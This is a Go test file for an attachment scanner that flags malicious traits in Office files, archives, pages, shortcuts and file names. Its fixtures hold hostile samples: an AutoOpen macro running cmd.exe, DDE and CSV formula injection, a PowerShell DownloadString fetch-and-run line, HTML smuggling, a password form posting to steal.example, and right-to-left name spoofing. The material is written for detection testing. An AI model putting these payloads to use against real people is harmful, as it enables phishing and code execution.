package attach

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"slices"
	"strings"
	"testing"
)

// sample is an attachment with what must and must not be said of it.
type sample struct {
	title, name, media string
	data               []byte
	typ                string
	want               []string // "kind" or "kind: part of the detail"
	not                []string // kinds
	urls               []string // "where url"
	text               []string
}

func (s sample) run(t *testing.T) {
	t.Helper()
	r := Inspect(s.name, s.media, s.data, nil)
	if s.typ != "" && r.Type != s.typ {
		t.Errorf("type %q, want %q", r.Type, s.typ)
	}
	for _, w := range s.want {
		kind, detail, _ := strings.Cut(w, ": ")
		if !slices.ContainsFunc(r.Traits, func(tr Trait) bool { return tr.Kind == kind && strings.Contains(tr.Detail, detail) }) {
			t.Errorf("no trait %q in %+v", w, r.Traits)
		}
	}
	for _, n := range s.not {
		if r.Has(n) {
			t.Errorf("trait %q in %+v", n, r.Traits)
		}
	}
	for _, u := range s.urls {
		where, url, _ := strings.Cut(u, " ")
		if !slices.ContainsFunc(r.URLs, func(f URL) bool { return f.Where == where && f.URL == url }) {
			t.Errorf("no address %q in %+v", u, r.URLs)
		}
	}
	for _, part := range s.text {
		if !strings.Contains(r.Text, part) {
			t.Errorf("no text %q in %q", part, r.Text)
		}
	}
	for _, tr := range r.Traits {
		if tr.Start < 0 || tr.End < tr.Start {
			t.Errorf("offsets of %+v", tr)
		}
	}
	if t.Failed() {
		t.Logf("incomplete: %q", r.Incomplete)
	}
}

func runSamples(t *testing.T, samples []sample) {
	t.Helper()
	for _, s := range samples {
		t.Run(s.title, s.run)
	}
}

const autoMacro = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n  s.Run \"cmd.exe /c echo http://load.example/x\"\r\nEnd Sub\r\n"

func TestOffice(t *testing.T) {
	project := string(cfbOf("", vbaParts("", "ThisDocument", autoMacro)))
	runSamples(t, []sample{
		{title: "plain docx", name: "letter.docx", data: docx(t, para("Dear member")), typ: "ooxml-word", text: []string{"Dear member"},
			not: []string{KindMacro, KindRemoteTemplate, KindTypeMismatch}},
		{title: "macro docm", name: "letter.docm", data: docx(t, para("x"), file{"word/vbaProject.bin", project}),
			want: []string{KindMacro + ": autoopen", KindMacro + ": createobject"}, urls: []string{"text http://load.example/x"}},
		{title: "macro in doc", name: "letter.doc", data: cfbOf("", vbaParts("Macros/", "ThisDocument", autoMacro)), typ: "ole", want: []string{KindMacro + ": autoopen"}},
		{title: "remote template", name: "a.docx", data: docx(t, para("x"), file{"word/_rels/settings.xml.rels", rels(external("attachedTemplate", "https://tpl.example/n.dotm"))}),
			want: []string{KindRemoteTemplate + ": tpl.example"}, urls: []string{"office-relationship https://tpl.example/n.dotm"}},
		{title: "local template", name: "a.docx", data: docx(t, para("x"), file{"word/_rels/settings.xml.rels", rels(external("attachedTemplate", "file:///C:\\Users\\u\\Normal.dotm"))}),
			not: []string{KindRemoteTemplate}},
		{title: "template on a share", name: "a.docx", data: docx(t, para("x"), file{"word/_rels/settings.xml.rels", rels(external("attachedTemplate", `\\files.example\t\n.dotm`))}),
			want: []string{KindRemoteTemplate}},
		{title: "linked object", name: "a.docx", data: docx(t, para("x"), file{"word/_rels/document.xml.rels", rels(external("oleObject", "http://obj.example/a!"))}), want: []string{KindRemoteTemplate}},
		{title: "hyperlink only", name: "a.docx", data: docx(t, para("x"), file{"word/_rels/document.xml.rels", rels(external("hyperlink", "https://www.example.org/a?b=1&amp;c=2"))}),
			not: []string{KindRemoteTemplate}, urls: []string{"office-relationship https://www.example.org/a?b=1&c=2"}},
		{title: "dde in pieces", name: "a.docx", data: docx(t, `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`),
			want: []string{KindDDE + ": cmd.exe"}},
		{title: "simple field", name: "a.docx", data: docx(t, `<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://pix.example/p.png&quot; "/>`), urls: []string{"office-field http://pix.example/p.png"}, not: []string{KindDDE}},
		{title: "xlm sheet", name: "a.xlsm", data: xlsx(t, "<x/>", "", "", file{"xl/macrosheets/sheet2.xml", `<f>EXEC("calc")</f>`}), typ: "ooxml-excel", want: []string{KindXLMMacro + ": EXEC"}},
		{title: "dde link", name: "a.xlsx", data: xlsx(t, "<x/>", "", "", file{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), want: []string{KindDDE}},
		{title: "cells", name: "a.xlsx", data: xlsx(t, `<row><c t="s"><v>0</v></c><c s="1"><v>31234</v></c><c><v>42</v></c></row>`, "<sst><si><t>Ada Beispiel</t></si></sst>", `<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>`),
			text: []string{"Ada Beispiel\t1985-07-06\t42"}},
		{title: "encrypted office", name: "a.docx", data: cfbOf("", map[string][]byte{"EncryptedPackage": make([]byte, 5000), "EncryptionInfo": {4, 0}}), want: []string{KindEncryptedDocument}},
		{title: "equation", name: "a.doc", data: cfbOf("", map[string][]byte{"ObjectPool/_1/Equation Native": make([]byte, 100)}), want: []string{KindEquationEditor}},
		{title: "biff macro sheet", name: "a.xls", data: cfbOf("", map[string][]byte{"Workbook": {0x85, 0, 8, 0, 0, 0, 0, 0, 2, 1, 0, 0}}), typ: "ole-excel", want: []string{KindXLMMacro + ": very hidden"}},
		{title: "biff password", name: "a.xls", data: cfbOf("", map[string][]byte{"Workbook": {0x2f, 0, 2, 0, 1, 0}}), want: []string{KindEncryptedDocument}},
		{title: "package", name: "a.doc", data: cfbOf("", map[string][]byte{"ObjectPool/_1/\x01Ole10Native": packageOf("run.vbs", "MsgBox 1")}), want: []string{KindOLEObject + ": run.vbs", KindScript}},
		{title: "odt macro", name: "a.odt", data: zipOf(t, file{"mimetype", "application/vnd.oasis.opendocument.text"}, file{"content.xml", "<p>Guten Tag</p>"}, file{"Basic/Standard/Module1.xml", "Sub x"}),
			typ: "odf-text", want: []string{KindMacro}, text: []string{"Guten Tag"}},
		{title: "msg", name: "a.msg", data: cfbOf("", map[string][]byte{"__properties_version1.0": make([]byte, 32), "__substg1.0_1000001F": wide("see https://m.example/a"),
			"__attach_version1.0_#00000000/__substg1.0_37010102": []byte("MsgBox 1"), "__attach_version1.0_#00000000/__substg1.0_3707001F": wide("x.vbs")}),
			typ: "msg", want: []string{KindScript}, urls: []string{"eml https://m.example/a"}},
	})
}

func wide(s string) []byte {
	var out []byte
	for _, r := range s {
		out = binary.LittleEndian.AppendUint16(out, uint16(r))
	}
	return out
}

func packageOf(name, data string) []byte {
	b := []byte{2, 0}
	b = append(append(b, name...), 0)
	b = append(append(b, "C:\\t\\"+name...), 0)
	b = append(b, 0, 0, 3, 0, 4, 0, 0, 0)
	b = append(append(b, "tmp"...), 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(b))), b...)
}

func TestArchives(t *testing.T) {
	inner := zipOf(t, file{"b.docm", string(docx(t, para("x"), file{"word/vbaProject.bin", string(cfbOf("", vbaParts("", "M", autoMacro)))}))})
	locked := zipOf(t, file{"secret.exe", "x"})
	locked[bytes.Index(locked, []byte("PK\x03\x04"))+6] |= 1
	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
	var tarred bytes.Buffer
	w := tar.NewWriter(&tarred)
	w.WriteHeader(&tar.Header{Name: "run.js", Size: 5, Mode: 0o600})
	w.Write([]byte("eval("))
	w.Close()
	var zipped bytes.Buffer
	g := gzip.NewWriter(&zipped)
	g.Write(tarred.Bytes())
	g.Close()
	runSamples(t, []sample{
		{title: "nested", name: "a.zip", data: zipOf(t, file{"in.zip", string(inner)}), typ: "zip", want: []string{KindNestedArchive, KindMacro}},
		{title: "locked", name: "a.zip", data: locked, want: []string{KindEncryptedArchive, KindScript + ": .exe"}},
		{title: "tar.gz", name: "a.tar.gz", data: zipped.Bytes(), typ: "gzip", want: []string{KindScript + ": js"}, not: []string{KindNestedArchive}},
		{title: "jar", name: "a.jar", data: zipOf(t, file{"META-INF/MANIFEST.MF", "x"}, file{"a.class", "x"}), typ: "jar", want: []string{KindExecutable}},
		{title: "bomb", name: "a.zip", data: zipOf(t, file{"zeros", strings.Repeat("\x00", 8<<20)}), want: []string{KindArchiveBomb}},
		{title: "broken directory", name: "a.zip", data: zipOf(t, file{"run.vbs", "MsgBox 1"})[:60], want: []string{KindScript}},
		{title: "two archives", name: "a.zip", data: append(zipOf(t, file{"run.vbs", "MsgBox 1"}), zipOf(t, file{"ok.txt", "fine"})...), want: []string{KindTypeMismatch, KindScript}},
		{title: "iso with link", name: "a.iso", data: isoOf(file{"DOC.LNK", string(lnkOf("cmd.exe", "/c start https://l.example/x", "shell32.dll"))}), typ: "iso",
			want: []string{KindDiskImage, KindLNK + ": cmd.exe"}, urls: []string{"lnk https://l.example/x"}},
		{title: "vhd by footer", name: "a.vhd", data: append(make([]byte, 4096), append([]byte("conectix"), make([]byte, 504)...)...), typ: "vhd", want: []string{KindDiskImage}},
		{title: "7z", name: "a.7z", data: sevenZipOf("run.vbs", "MsgBox 1", "\x01\x00"), typ: "7z", want: []string{KindScript}, not: []string{KindEncryptedArchive}},
		{title: "7z locked", name: "a.7z", data: sevenZipOf("run.vbs", "MsgBox 1", "\x24\x06\xf1\x07\x01\x02\x13\x00"), want: []string{KindEncryptedArchive, KindScript}},
		{title: "rar locked", name: "a.rar", data: rarLocked(), typ: "rar", want: []string{KindEncryptedArchive}},
		{title: "password beside", name: "a.zip", data: zipOf(t, file{"readme.txt", "Password: 4711"}), want: []string{KindPasswordHint}},
	})
	t.Run("path", func(t *testing.T) {
		r := Inspect("a.zip", "", zipOf(t, file{"in.zip", string(inner)}), nil)
		if !slices.ContainsFunc(r.Traits, func(tr Trait) bool { return tr.Kind == KindMacro && strings.HasPrefix(tr.Path, "a.zip!in.zip!b.docm") }) {
			t.Errorf("path of the macro in %+v", r.Traits)
		}
	})
}

func TestNames(t *testing.T) {
	plain := []byte("hello")
	runSamples(t, []sample{
		{title: "double", name: "invoice.pdf.exe", data: []byte("MZ" + strings.Repeat("x", 80)), want: []string{KindDoubleExtension, KindExecutable, KindTypeMismatch}[:2]},
		{title: "gap", name: "invoice.pdf                         .scr", data: plain, want: []string{KindDoubleExtension}},
		{title: "dots are no gap", name: "report.final.v2.docx", data: docx(t, ""), not: []string{KindDoubleExtension}},
		{title: "override", name: "invoice\u202excod.exe", data: plain, want: []string{KindRTLName}},
		{title: "own direction", name: "\u200fدعوة.pdf", data: []byte("%PDF-1.4"), not: []string{KindRTLName}},
		{title: "zero width", name: "in\u200bvoice.pdf", data: []byte("%PDF-1.4"), want: []string{KindInvisibleName}},
		{title: "exe named pdf", name: "a.pdf", data: []byte("MZ" + strings.Repeat("x", 80)), want: []string{KindTypeMismatch, KindExecutable}},
		{title: "exe as image", name: "photo", media: "image/png", data: []byte("MZ" + strings.Repeat("x", 80)), want: []string{KindTypeMismatch}},
		{title: "jpeg named png", name: "a.png", data: []byte("\xff\xd8\xff\xe0"), not: []string{KindTypeMismatch}},
		{title: "docx as octets", name: "a.docx", media: "application/octet-stream", data: docx(t, ""), not: []string{KindTypeMismatch}},
		{title: "powershell", name: "a.ps1", data: []byte("iex (New-Object Net.WebClient).DownloadString('http://p.example/a')"), want: []string{KindScript + ": downloadstring"}, urls: []string{"text http://p.example/a"}},
		{title: "trailing dot", name: "a.exe. ", data: plain, want: []string{KindScript}},
	})
}

func TestPages(t *testing.T) {
	form := `<form action="https://steal.example/p" method=post><input type=email name=u><input type=password name=p></form>`
	encoded := base64.StdEncoding.EncodeToString([]byte("<html>" + form + "</html>"))
	blob := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 80)
	runSamples(t, []sample{
		{title: "form", name: "a.html", data: []byte("<html>" + form), typ: "html", want: []string{KindHTMLForm + ": steal.example"}, urls: []string{"html-form https://steal.example/p"}},
		{title: "no form", name: "a.html", data: []byte(`<html><a href="https://a.example/">a</a><a href="https://b.example/">b</a><p>` + strings.Repeat("words ", 60)),
			not: []string{KindHTMLForm, KindHTMLRedirect, KindHTMLSmuggling}, urls: []string{"html-link https://a.example/"}},
		{title: "blob", name: "a.html", data: []byte(`<script>var d="` + blob + `";var b=new Blob([atob(d)]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="x.iso";a.click()</script>`), want: []string{KindHTMLSmuggling + ": createobjecturl"}},
		{title: "written form", name: "a.htm", data: []byte(`<script>document.write(atob("` + encoded + `"))</script>`), want: []string{KindHTMLSmuggling, KindHTMLForm}, urls: []string{"html-form https://steal.example/p"}},
		{title: "unescape", name: "a.htm", data: []byte(`<script>document.write(unescape('%3Cform%20action%3D%22https%3A//s.example/%22%3E%3Cinput%20type%3Dpassword%3E%3C/form%3E'))</script>`),
			want: []string{KindHTMLSmuggling, KindHTMLForm}, urls: []string{"html-form https://s.example/"}},
		{title: "refresh", name: "a.html", data: []byte(`<meta http-equiv=refresh content="0; url='https://go.example/x'">`), want: []string{KindHTMLRedirect}, urls: []string{"html-redirect https://go.example/x"}},
		{title: "location", name: "a.html", data: []byte(`<script>window.location.href = "https://go.example/y"</script>`), want: []string{KindHTMLRedirect}},
		{title: "data download", name: "a.html", data: []byte(`<a download="x.js" href="data:text/javascript;base64,` + base64.StdEncoding.EncodeToString([]byte("var a = 1; eval('x')")) + `">x</a>`), want: []string{KindHTMLSmuggling}},
		{title: "svg script", name: "a.svg", data: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location="https://v.example/a"]]></script></svg>`), typ: "svg", want: []string{KindSVGScript}, urls: []string{"svg https://v.example/a"}},
		{title: "svg handler", name: "a.svg", data: []byte(`<svg onload="location='https://v.example/b'"/>`), want: []string{KindSVGScript}},
		{title: "plain svg", name: "a.svg", data: []byte(`<svg><path d="M0 0"/><a href="https://ok.example/"/></svg>`), not: []string{KindSVGScript}, urls: []string{"svg https://ok.example/"}},
	})
}

func TestTextual(t *testing.T) {
	runSamples(t, []sample{
		{title: "invitation", name: "i.ics", data: []byte("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=Desk:mailto:desk@a.example\r\nDESCRIPTION:join https://c.example/ver\r\n y/long\\n\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
			typ: "ics", want: []string{KindCalendarLink + ": REQUEST"}, urls: []string{"ics https://c.example/very/long"}},
		{title: "invitation without link", name: "i.ics", data: []byte("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), not: []string{KindCalendarLink}},
		{title: "rtf equation", name: "a.rtf", data: []byte(`{\rtf1{\object\objemb{\*\objdata 01050000 02000000 0b00{}0000 45717561746 96f6e2e3300 0000000000000000}}}`), typ: "rtf", want: []string{KindEquationEditor}},
		{title: "rtf template", name: "a.doc", data: []byte(`{\rtf1{\*\template http://tpl.example/a.dotm}text\par}`), typ: "rtf", want: []string{KindRemoteTemplate}, urls: []string{"rtf http://tpl.example/a.dotm"}},
		{title: "rtf field", name: "a.rtf", data: []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://f.example/"}{\fldrslt here}}}`), urls: []string{"rtf https://f.example/"}, not: []string{KindDDE}, text: []string{"here"}},
		{title: "url file", name: "a.url", data: []byte("[InternetShortcut]\r\nURL=file://srv.example/x.vbs\r\n"), typ: "url", want: []string{KindLNK}, urls: []string{"shortcut file://srv.example/x.vbs"}},
		{title: "csv dde", name: "a.csv", data: []byte("name,x\n\"=cmd|'/c calc'!A0\",1\n"), typ: "csv", want: []string{KindDDE}, text: []string{"name,x"}},
		{title: "eml", name: "a.eml", data: []byte("From: a@a.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhttps://in.example/\r\n--b\r\nContent-Disposition: attachment; filename=r.vbs\r\nContent-Transfer-Encoding: base64\r\n\r\nTXNnQm94IDE=\r\n--b--\r\n"),
			typ: "eml", want: []string{KindScript}, urls: []string{"eml https://in.example/"}},
		{title: "onenote", name: "a.one", data: append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"+strings.Repeat("\x00", 64)+oneNoteFile+"\x20\x00\x00\x00\x00\x00\x00\x00"+strings.Repeat("\x00", 12)), []byte("<script>x()</script> and more of")...),
			typ: "onenote", want: []string{KindScript, KindOLEObject}},
	})
}

func TestLimits(t *testing.T) {
	has := func(r *Report, part string) bool {
		return slices.ContainsFunc(r.Incomplete, func(s string) bool { return strings.Contains(s, part) })
	}
	deep := []byte("end")
	for range 8 {
		deep = zipOf(t, file{"n.zip", string(deep)})
	}
	if r := Inspect("a.zip", "", deep, nil); !has(r, "nested deeper") {
		t.Errorf("depth: %q", r.Incomplete)
	}
	var many []file
	for i := range 30 {
		many = append(many, file{string(rune('a'+i)) + ".txt", string(rune('a' + i))})
	}
	b := NewBudget(Limits{Members: 20})
	if r := Inspect("a.zip", "", zipOf(t, many...), b); len(r.Members) != 20 || !has(r, "20 members") {
		t.Errorf("members: %d, %q", len(r.Members), r.Incomplete)
	}
	if r := Inspect("b.zip", "", zipOf(t, many...), b); len(r.Members) != 0 || !has(r, "20 members") {
		t.Errorf("the budget is the message's: %d, %q", len(r.Members), r.Incomplete)
	}
	r := Inspect("a.zip", "", zipOf(t, file{"a", strings.Repeat("abc", 5000)}), NewBudget(Limits{Expand: 1000}))
	if !has(r, "not wholly unpacked") {
		t.Errorf("expand: %q", r.Incomplete)
	}
	same := string(zipOf(t, file{"x.txt", "x"}))
	r = Inspect("a.zip", "", zipOf(t, file{"1.zip", same}, file{"2.zip", same}), nil)
	if n := len(r.Members); n != 3 {
		t.Errorf("content met twice is opened once: %d members, want 3", n)
	}
}

// Members may overlap in a container, and streams in a compound file, so that a
// small file asks for endless work; both are paid for.
func TestOverlap(t *testing.T) {
	img := isoOf(file{"A.TXT", strings.Repeat("a", 4096)})
	dir := img[18*isoBlock : 19*isoBlock]
	rec := bytes.Clone(dir[68 : 68+int(dir[68])])
	for at := 68; at+len(rec) < isoBlock; at += len(rec) {
		binary.LittleEndian.PutUint32(rec[2:], 0)
		binary.LittleEndian.PutUint32(rec[10:], uint32(len(img)-at))
		copy(dir[at:], rec)
	}
	r := Inspect("a.iso", "", img, NewBudget(Limits{Expand: 64 << 10}))
	if !slices.ContainsFunc(r.Incomplete, func(s string) bool { return strings.Contains(s, "was not opened") }) {
		t.Errorf("overlapping files: %q", r.Incomplete)
	}
	data := cfbOf("", vbaParts("", "M", strings.Repeat("x", 5000)))
	f, err := openCFB(data)
	if err != nil {
		t.Fatal(err)
	}
	for range 1000 {
		_, err = f.read(f.find("M"))
	}
	if err == nil {
		t.Error("a stream can be read without end")
	}
}

func TestTechnique(t *testing.T) {
	for _, kind := range []string{KindMacro, KindXLMMacro, KindRemoteTemplate, KindOLEObject, KindDDE, KindEquationEditor, KindLNK, KindDiskImage,
		KindScript, KindExecutable, KindSVGScript, KindHTMLSmuggling, KindHTMLForm, KindHTMLRedirect, KindEncryptedArchive, KindEncryptedDocument,
		KindDoubleExtension, KindRTLName, KindInvisibleName, KindTypeMismatch, KindPDFAction, KindCalendarLink, KindArchiveBomb, KindNestedArchive, KindPasswordHint} {
		if got := Technique(kind); got == "T1566.001" || !strings.HasPrefix(got, "T1") {
			t.Errorf("%s: technique %q", kind, got)
		}
	}
}
